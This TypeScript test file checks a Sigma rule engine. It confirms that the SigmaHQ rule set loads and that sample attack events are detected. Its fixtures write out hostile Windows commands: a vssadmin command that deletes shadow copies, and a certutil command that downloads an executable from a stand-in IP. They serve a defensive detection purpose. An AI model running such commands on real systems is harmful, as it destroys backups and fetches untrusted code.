import { existsSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createSigmaEngine, type SigmaEngine } from './sigma-engine.ts';
import { WEB_ECS_FIELD_MAPPINGS } from './sigma-field-mappings.ts';
import { loadRulesFromPath } from './sigma-loader.ts';

// The public SigmaHQ rule set lives beside the repository (never committed): ../shared/data/sigmahq.
const REPO_ROOT = path.resolve(import.meta.dirname, '..', '..', '..', '..', '..', '..');
const SIGMAHQ = path.resolve(REPO_ROOT, '..', 'shared', 'data', 'sigmahq');
const present = existsSync(SIGMAHQ);
if (!present) console.warn(`SigmaHQ rule set not found at ${SIGMAHQ}: skipping the full-load check`);

describe.skipIf(!present)('the SigmaHQ rule set', () => {
  let engine: SigmaEngine;
  let documents = 0;

  it('loads at least 99% of the rules and lists the others with reasons', { timeout: 180_000 }, () => {
    const loaded = loadRulesFromPath(SIGMAHQ);
    documents = loaded.rules.length + loaded.correlations.length + loaded.unsupported.length;
    engine = createSigmaEngine({ rules: loaded, fieldMappings: WEB_ECS_FIELD_MAPPINGS });
    const ok = engine.stats.rules + engine.stats.correlations;
    const lines = engine.unsupported.map((u) => `  ${path.relative(SIGMAHQ, u.source)}: ${u.reason}`);
    console.info(
      `SigmaHQ: ${ok} of ${documents} loaded (${((ok / documents) * 100).toFixed(2)}%); not loaded:\n${lines.join('\n')}`,
    );
    expect(documents).toBeGreaterThan(3000);
    expect(ok / documents).toBeGreaterThanOrEqual(0.99);
    for (const u of engine.unsupported) expect(u.reason.length).toBeGreaterThan(5);
  });

  it('matches representative attacks and not a benign process', () => {
    const proc = (Image: string, CommandLine: string, extra: Record<string, string> = {}) => ({
      logsource: { product: 'windows', category: 'process_creation' },
      Image,
      CommandLine,
      OriginalFileName: path.win32.basename(Image).toUpperCase(),
      ParentImage: 'C:\\Windows\\explorer.exe',
      ...extra,
    });
    const titles = (e: Record<string, unknown>) => engine.match(e).map((m) => m.title.toLowerCase());
    expect(
      titles(proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet')).join('|'),
    ).toMatch(/shadow/);
    expect(
      titles(
        proc(
          'C:\\Windows\\System32\\certutil.exe',
          'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe',
        ),
      ).length,
    ).toBeGreaterThan(0);
    expect(
      titles(
        proc('C:\\Program Files\\Notepad++\\notepad++.exe', '"C:\\Program Files\\Notepad++\\notepad++.exe"'),
      ),
    ).toEqual([]);
    const web = {
      logsource: { category: 'webserver' },
      url: { path: '/index.php', query: 'id=1' },
      user_agent: { original: 'sqlmap/1.8' },
    };
    expect(titles(web).join('|')).toMatch(/user.?agent|sqlmap|hack/);
  });
});
